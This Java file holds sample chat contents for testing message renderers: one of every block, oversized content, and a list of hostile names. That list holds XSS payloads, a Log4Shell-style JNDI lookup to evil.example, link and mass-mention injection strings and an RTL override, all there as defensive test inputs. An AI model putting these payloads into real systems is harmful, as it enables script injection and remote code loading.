package dev.callboard.platform;

import dev.callboard.chat.Block;
import dev.callboard.chat.Button;
import dev.callboard.chat.Content;
import dev.callboard.chat.Line;
import java.net.URI;
import java.time.Instant;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** Contents that every renderer must be able to show. */
public final class Samples {

  private static final ZoneId LONDON = ZoneId.of("Europe/London");

  private Samples() {}

  /** One of everything. */
  public static Content everyBlock() {
    return Content.of(
        new Block.Heading("Poll 1"),
        new Block.Text(
            Line.of("Read ")
                .link("the handout", URI.create("https://example.com/handout.pdf?a=1&b=2"))
                .plain(", then type ")
                .code("page 7")
                .plain(" at ")
                .clock(Instant.parse("2026-11-24T14:15:00Z"), LONDON)
                .strong(" sharp")),
        new Block.Facts(
            List.of(
                new Block.Fact("Left", Line.of("2:10")),
                new Block.Fact("Next", Line.of("Break").strong(" (you)")))),
        new Block.Small(Line.of("1 min behind the clock")),
        new Block.Actions(
            List.of(
                new Button.Press("Post it", "@hybrid-1 page 7", Button.Style.MAIN),
                new Button.Press("Take back", "@hybrid-1 undo 1", Button.Style.DANGER),
                new Button.Press("Status", "@hybrid-1 status"),
                new Button.Open("Handout", URI.create("https://example.com/handout.pdf")))));
  }

  /** More of everything than any platform takes. */
  public static Content tooLong() {
    List<Block> blocks = new ArrayList<>();
    for (int i = 0; i < 120; i++) {
      blocks.add(new Block.Text(Line.of("word ".repeat(400) + i)));
    }
    blocks.add(new Block.Heading("H".repeat(5_000)));
    blocks.add(
        new Block.Facts(
            Stream.iterate(0, i -> i + 1)
                .limit(60)
                .map(i -> new Block.Fact("Label " + i, Line.of("v".repeat(3_000))))
                .toList()));
    blocks.add(
        new Block.Actions(
            Stream.iterate(0, i -> i + 1)
                .limit(40)
                .map(i -> (Button) new Button.Press("B".repeat(200), "@hybrid-1 page " + i))
                .toList()));
    return new Content(blocks);
  }

  /** A foreign text in every place that takes text. */
  public static Content everywhere(String name) {
    return Content.of(
        new Block.Heading(name),
        new Block.Text(
            Line.of(name).strong(name).code(name).link(name, URI.create("https://example.com/"))),
        new Block.Facts(List.of(new Block.Fact(name, Line.of(name)))),
        new Block.Small(Line.of(name)),
        new Block.Actions(List.of(new Button.Press(name, "@hybrid-1 say " + name))));
  }

  /** Names that people, or those who want to do harm, have. */
  public static Stream<String> hostileNames() {
    return Stream.of(
        "<!channel>",
        "<!here> & <@U07>",
        "<at>everyone</at>",
        "*bold* _it_ ~gone~ `code` ```block```",
        "[click](https://evil.example/)",
        "<https://evil.example/|click>",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "{{DATE(2026-11-24T14:00:00Z)}}",
        "${jndi:ldap://evil.example/}",
        "\"quoted\" \\ back\nslash",
        "العربية \u202Ertl\u202C",
        "# heading\n- list\n> quote");
  }
}
